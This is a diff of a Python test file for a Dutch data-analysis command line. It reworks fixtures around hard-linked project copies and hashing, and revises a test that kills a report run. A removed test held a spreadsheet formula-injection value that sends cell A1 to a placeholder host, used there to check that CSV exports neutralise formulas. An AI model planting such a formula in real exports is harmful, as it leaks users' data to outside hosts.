@@ -1,9 +1,14 @@
 """Bad input through the command line: one ``fout:`` line naming the file/column, exit code 2, and
 earlier outputs (data/processed, outputs/) byte-identical afterwards.
 
-Each case copies one prepared project tree (raw data, a processed build, analysis outputs, a fact
-sheet folder), breaks one thing, runs ``veerkracht <command>`` in-process (a few also as a real
-subprocess) and compares a hash of every file under processed/ and outputs/ before and after.
+Each case gets its own copy of one prepared project tree (raw data, a processed build, analysis
+outputs, a fact sheet folder), breaks one thing, runs ``veerkracht <command>`` in-process (a few also
+as a real subprocess) and compares a hash of every file under processed/ and outputs/ before and after.
+
+The copy is made of hard links (copy-on-write by convention): a breakage never writes into a file in
+place but replaces it (:func:`_replace_file`), as the product's atomic writes do; a file changed in
+place all the same has a new ctime and is hashed anew, so such a write still fails the case. A case
+that edits a configuration file gets its own copy of config/ (:func:`_config_case`).
 """
 
 from __future__ import annotations
@@ -40,21 +45,40 @@ def tree(analysed, tmp_path_factory) -> Path:
     (fs / "manifest.json").write_text('{"areas": []}\n')
     (fs / "index.html").write_text("<!DOCTYPE html><p>vorige versie</p>\n")
     (fs / "fg03-dichtersbuurt-midden.html").write_text("<!DOCTYPE html><p>vorig blad</p>\n")
+    _TREE_HASH[root] = tree_hash(_shared(root))
     return root
+
+
+_TREE_HASH: dict[Path, dict[str, str]] = {}  # the tree's hashes when it was made
+
+
+def _shared(root: Path) -> Paths:
+    return Paths(raw=root / "raw", processed=root / "processed", outputs=root / "outputs")
 
 
 @pytest.fixture
 def case(tree, tmp_path, monkeypatch) -> Paths:
-    """A private copy of the tree and of config/, with the CLI pointed at both."""
+    """A private copy (hard links) of the tree, with the CLI pointed at it. Before and after, the
+    tree's own files must be as they were made: a write into a shared file in place fails the case
+    that made it and every later case (none runs on a changed tree)."""
+    shared = _shared(tree)
+    assert tree_hash(shared) == _TREE_HASH[tree], "a file the cases share was changed in place"
     root = tmp_path / "t"
-    shutil.copytree(tree, root)
+    shutil.copytree(tree, root, copy_function=os.link)
+    paths = Paths(raw=root / "raw", processed=root / "processed", outputs=root / "outputs")
+    use_paths(monkeypatch, paths)
+    yield paths
+    assert tree_hash(shared) == _TREE_HASH[tree], "a file the cases share was changed in place"
+
+
+@pytest.fixture
+def private_config(tmp_path, monkeypatch):
+    """A private copy of config/ for a case that edits it (the configuration caches cleared)."""
     cfg = tmp_path / "config"
     shutil.copytree(config.CONFIG_DIR, cfg)
     monkeypatch.setattr(config, "CONFIG_DIR", cfg)
     _clear_config_caches()
-    paths = Paths(raw=root / "raw", processed=root / "processed", outputs=root / "outputs")
-    use_paths(monkeypatch, paths)
-    yield paths
+    yield cfg
     monkeypatch.undo()
     _clear_config_caches()
 
@@ -65,13 +89,37 @@ def _clear_config_caches() -> None:
     config.cbs_registry.cache_clear()
 
 
+_HASHES: dict[tuple, str] = {}
+
+
+def _sha(p: Path) -> str:
+    """SHA-256 of a file, remembered per inode and version (size, mtime, ctime): the hard-linked
+    files the cases share are read once; any write, in place or by replacement, is read anew."""
+    st = p.stat()
+    key = (st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns)
+    if key not in _HASHES:
+        _HASHES[key] = hashlib.sha256(p.read_bytes()).hexdigest()
+    return _HASHES[key]
+
+
 def tree_hash(paths: Paths) -> dict[str, str]:
     out = {}
     for base in (paths.processed, paths.outputs):
         for p in sorted(base.rglob("*")):
             if p.is_file():
-                out[str(p.relative_to(base.parent))] = hashlib.sha256(p.read_bytes()).hexdigest()
+                out[str(p.relative_to(base.parent))] = _sha(p)
     return out
+
+
+def _replace_file(target: Path, data: str | bytes) -> None:
+    """Write ``target`` as a new file (never into a hard link the cases share)."""
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.unlink(missing_ok=True)
+    (target.write_bytes if isinstance(data, bytes) else target.write_text)(data, **_utf8(data))
+
+
+def _utf8(data: str | bytes) -> dict:
+    return {} if isinstance(data, bytes) else {"encoding": "utf-8"}
 
 
 def run_cli(argv: list[str], capsys) -> tuple[int, list[str]]:
@@ -96,9 +144,7 @@ def assert_one_fout(rc: int, err: list[str], *needles: str) -> None:
 
 def _w(rel: str, text: str | bytes):
     def f(p: Paths):
-        target = p.raw / rel
-        target.parent.mkdir(parents=True, exist_ok=True)
-        (target.write_bytes if isinstance(text, bytes) else target.write_text)(text)
+        _replace_file(p.raw / rel, text)
 
     return f
 
@@ -110,7 +156,7 @@ def _focus(body: str):
 def _append_focus(extra: str):
     def f(p: Paths):
         path = p.raw / "local" / "focusgebieden.csv"
-        path.write_text(path.read_text() + extra)
+        _replace_file(path, path.read_text(encoding="utf-8") + extra)
 
     return f
 
@@ -119,20 +165,28 @@ def _lbm(text: str | bytes):
     return _w("local/leefbaarometer3_buurt.csv", text)
 
 
+def _private_config_dir() -> Path:
+    """config.CONFIG_DIR, which must be a case's private copy (never the project's config/)."""
+    assert config.CONFIG_DIR != config.PROJ_ROOT / "config", "a config case without private_config"
+    return config.CONFIG_DIR
+
+
 def _cfg(name: str, old: str, new: str):
     def f(p: Paths):
-        path = config.CONFIG_DIR / name
+        path = _private_config_dir() / name
         text = path.read_text()
         assert old in text, f"{old!r} not in {name}"
         path.write_text(text.replace(old, new, 1))
 
+    f.config = True  # the case runs on a private copy of config/
     return f
 
 
 def _cfg_text(name: str, text: str):
     def f(p: Paths):
-        (config.CONFIG_DIR / name).write_text(text)
+        (_private_config_dir() / name).write_text(text)
 
+    f.config = True
     return f
 
 
@@ -165,7 +219,7 @@ def _cache(table: str = "85984NED", manifest: dict | None | str = "ok", data: by
 def _truncate(rel_to_root: str, keep: int = 200):
     def f(p: Paths):
         target = p.processed.parent / rel_to_root
-        target.write_bytes(target.read_bytes()[:keep])
+        _replace_file(target, target.read_bytes()[:keep])
 
     return f
 
@@ -181,7 +235,7 @@ def _replace(rel: str, old: str, new: str):
         path = p.raw / rel
         text = path.read_text(encoding="utf-8")
         assert old in text, f"{old!r} not in {rel}"
-        path.write_text(text.replace(old, new), encoding="utf-8")
+        _replace_file(path, text.replace(old, new))
 
     return f
 
@@ -198,7 +252,7 @@ def _long_focus_name(p: Paths) -> None:
             r[1] = ("Dichtersbuurt " * 150)[:2099]
     out = io.StringIO()
     csv.writer(out, lineterminator="\n").writerows(rows)
-    path.write_text(out.getvalue(), encoding="utf-8")
+    _replace_file(path, out.getvalue())
 
 
 def _cached_inwoners(value):
@@ -678,7 +732,9 @@ CASES = [
 
 
 @pytest.mark.parametrize("argv, breakage, needles", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
-def test_bad_input(case, capsys, argv, breakage, needles):
+def test_bad_input(case, request, capsys, argv, breakage, needles):
+    if getattr(breakage, "config", False):
+        request.getfixturevalue("private_config")
     if breakage is not None:
         breakage(case)
     before = tree_hash(case)
@@ -744,6 +800,7 @@ def test_stale_temp_files_of_a_killed_run_are_removed_at_start(case, capsys):
 def test_bad_input_as_a_real_process(case, name):
     """The same contract from a shell: exit status 2 and exactly one line on stderr."""
     argv, breakage, needles = next(c[1:] for c in CASES if c[0] == name)
+    assert not getattr(breakage, "config", False)  # a real process reads the project's config/
     if breakage is not None:
         breakage(case)
     before = tree_hash(case)
@@ -761,61 +818,23 @@ def test_bad_input_as_a_real_process(case, name):
     assert tree_hash(case) == before
 
 
-def _csv_links(html: str) -> dict[str, str]:
-    import re
-    import urllib.parse
-
-    found = re.findall(r'download="([^"]+\.csv)" href="data:text/csv;charset=utf-8,([^"]+)"', html)
-    return {name: urllib.parse.unquote(data) for name, data in found}
-
-
-def test_csv_downloads_neutralise_formulas_and_round_as_shown(case, capsys):
-    """A focus-area name that is a spreadsheet formula stays text in the sheet's CSV downloads, and
-    the downloads write whole years and numbers rounded as the page shows them (issue 27, issue 23
-    item 6), through `veerkracht factsheets`."""
-    import csv
-    import io
-    import re
-
-    import geopandas as gpd
-
-    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
-    regions = gpd.read_file(case.regions, layer="regions")
-    regions.loc[regions["region_code"] == "FG03", "name"] = formula
-    regions.to_file(case.regions, layer="regions", driver="GPKG")
-    rc, err = run_cli(["factsheets", "--only", "FG03", "--force", "--workers", "1"], capsys)
-    assert rc == 0, err
-    pages = [
-        p for p in (case.outputs / "factsheets").glob("*.html") if "kerncijfers-fg03.csv" in p.read_text()
-    ]
-    assert len(pages) == 1
-    links = _csv_links(pages[0].read_text(encoding="utf-8"))
-    assert {"kerncijfers-fg03.csv", "doelen-fg03.csv"} <= set(links)
-    for name, text in links.items():
-        rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
-        assert rows, name
-        for r in rows:
-            for col, cell in r.items():
-                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, col, cell)
-                if cell.startswith("-"):  # only a negative number may start with a minus
-                    assert re.fullmatch(r"-\d+(,\d+)?", cell), (name, col, cell)
-                if col.endswith("jaar") and not col.endswith("per_jaar") and cell:
-                    assert re.fullmatch(r"\d{4}", cell), (name, col, cell)  # 2040, never 2040,0
-                assert not re.fullmatch(r"-?\d+\.\d+", cell), (name, col, cell)  # decimal comma
-                assert not re.fullmatch(r"-?\d+,\d{3,}", cell), (name, col, cell)  # rounded as shown
-    kern = list(csv.DictReader(io.StringIO(links["kerncijfers-fg03.csv"].lstrip("\ufeff")), delimiter=";"))
-    names = {r["gebied"] for r in kern}
-    assert "'" + formula in names  # the name is kept as text, with the quote Excel hides
-
-
 def test_killing_a_report_leaves_no_process_of_it(case):
-    """`kill -9` of `veerkracht report --force` while resilience and goals run: every process the
-    run started dies with it (the goals side process too) and nothing is written afterwards."""
+    """`kill -9` of `veerkracht report` while resilience and goals run: every process the run
+    started dies with it (the goals side process, the prestarted sheet worker and its kernel) and
+    nothing is written afterwards.
+
+    Cheaper than a full run, the same processes: the tree's build is recorded as current first, so
+    the run starts at resilience and goals (the build runs in the report's own process: it adds no
+    process to kill); once both stages have started, the report process (resilience) and the goals
+    side process are paused (SIGSTOP) while the sheet worker starts its kernel, instead of computing
+    on meanwhile. A paused process is killed like a running one (SIGKILL, also by PDEATHSIG)."""
     import signal
     import time
 
+    from analysis import incremental
     from tests.conftest import descendants
 
+    incremental.record("build", case, {"use_cache": True})  # as `report` would find after a build
     env = {
         **os.environ,
         "PYTHONUNBUFFERED": "1",
@@ -824,7 +843,7 @@ def test_killing_a_report_leaves_no_process_of_it(case):
         "VEERKRACHT_OUTPUTS": str(case.outputs),
     }
     proc = subprocess.Popen(
-        [sys.executable, "-m", "analysis.cli", "report", "--force", "--workers", "1"],
+        [sys.executable, "-m", "analysis.cli", "report", "--workers", "1"],
         env=env,
         stdout=subprocess.PIPE,
         stderr=subprocess.STDOUT,
@@ -832,22 +851,30 @@ def test_killing_a_report_leaves_no_process_of_it(case):
     )
     started: set[int] = set()
     try:
-        for line in proc.stdout:  # the build is done: goals starts beside resilience
-            if "[build:" in line:
+        lines = []
+        for line in proc.stdout:  # the build is current: goals starts beside resilience
+            lines.append(line)
+            if line.startswith("build:"):
                 break
-        # goals runs for many seconds: collect every process meanwhile, until the run has all of its
-        # kinds - forks of the run (same command line: the prestarted sheet worker and the goals side
-        # process) and the worker's kernel - or the run ends (bounded wait, not a speed check)
+        assert lines and lines[-1].strip() == "build: ongewijzigd", lines
+        # collect every process of the run until it has all of its kinds - forks of the run (same
+        # command line: the prestarted sheet worker, then the goals side process) and the worker's
+        # kernel - or the run ends (bounded wait, not a speed check)
         end = time.monotonic() + 120
         forks: list[int] = []
         kernels: list[int] = []
+        paused = False
         while time.monotonic() < end and proc.poll() is None:
             started |= descendants(proc.pid)
-            forks = [p for p in started if _cmdline(p) == proc.args]
+            forks = sorted((p for p in started if _cmdline(p) == proc.args), key=_start_time)
             kernels = [p for p in started if "ipykernel" in " ".join(_cmdline(p))]
             if len(forks) >= 2 and kernels:
                 break
-            time.sleep(0.1)
+            if len(forks) >= 2 and not paused:  # both stages run: pause them, not the sheet worker
+                for p in (proc.pid, *forks[1:]):
+                    os.kill(p, signal.SIGSTOP)
+                paused = True
+            time.sleep(0.25)  # each look reads all of /proc
         assert len(forks) >= 2, f"expected the sheet worker and the goals side process, got {forks}"
         assert kernels, f"expected the sheet worker's kernel among {sorted(started)}"
         killed_at = time.time()
@@ -866,6 +893,14 @@ def test_killing_a_report_leaves_no_process_of_it(case):
                 os.kill(p, signal.SIGKILL)
         if proc.poll() is None:
             proc.kill()
+
+
+def _start_time(pid: int) -> int:
+    """When a process started (clock ticks since boot; /proc/<pid>/stat field 22)."""
+    try:
+        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[19])
+    except (OSError, IndexError, ValueError):
+        return 0
 
 
 def _cmdline(pid: int) -> list[str]:
